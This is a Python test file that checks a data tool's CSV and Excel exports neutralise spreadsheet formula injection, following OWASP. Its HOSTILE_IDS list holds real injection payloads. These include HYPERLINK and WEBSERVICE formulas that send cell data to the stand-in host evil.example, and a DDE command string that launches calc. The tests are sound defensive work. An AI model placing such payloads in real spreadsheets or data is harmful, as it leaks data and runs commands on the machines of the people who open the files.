"""Spreadsheet injection: nothing from the data becomes a formula in the outputs (OWASP)."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest
from helpers import write_config

from needsmodel.cli import main
from needsmodel.export import FORMULA_TRIGGERS, escape_cell

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"D01")',
    "+1+2",
    "-3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+2",
    '=SUM(1,1)+HYPERLINK("http://evil.example/?x="&B3,"D01")',
    '=SUM(A1:A2)*0+WEBSERVICE("http://evil.example/")',
]
HOSTILE_COLUMNS = {"parents_low_education": "=1+2", "single_parent": "@single", "name": "-name"}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("hostile")
    from needsmodel import datasets

    df = pd.read_csv(datasets.sample_dir() / "school_districts.csv", dtype={"district": str})
    df.loc[: len(HOSTILE_IDS) - 1, "district"] = HOSTILE_IDS
    df = df.rename(columns=HOSTILE_COLUMNS)
    df.to_csv(workdir / "u.csv", index=False)
    cfg = write_config(
        workdir,
        units="u.csv",
        data={"label": "-name"},
        model={"indicators": ["=1+2", "parents_outside_labour_market", "@single"]},
        allocation={"max_loss_pct": 5, "phase_in_years": 2},
    )
    assert main(["run", str(cfg), "-q"]) == 0
    return workdir / "out"


def test_no_cell_of_the_workbook_is_a_formula(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "allocation_keys.xlsx")
    formulas = [
        (ws, c)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    # the only formulas are the writer's own totals: =SUM(<col>2:<col><n>) in the last row
    assert formulas
    for ws, c in formulas:
        assert c.row == ws.max_row, (ws.title, c.coordinate, c.value)
        assert c.value == f"=SUM({c.column_letter}2:{c.column_letter}{ws.max_row - 1})"
    values = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert set(HOSTILE_IDS) <= values  # the ids themselves are kept, as text
    assert "=1+2" in values


def test_every_csv_cell_is_escaped(hostile_run):
    files = sorted(hostile_run.glob("*.csv"))
    assert len(files) >= 6
    seen = 0
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell.startswith(FORMULA_TRIGGERS):
                        # only numbers may start with a sign
                        float(cell)
                    if cell.startswith("'="):
                        seen += 1
    assert seen >= 5


def test_escape_cell_follows_owasp():
    assert escape_cell("=1") == "'=1"
    assert escape_cell("\tx") == "'\tx"
    assert escape_cell("\rx") == "'\rx"
    assert escape_cell("D01") == "D01"
    assert escape_cell(-3.5) == -3.5
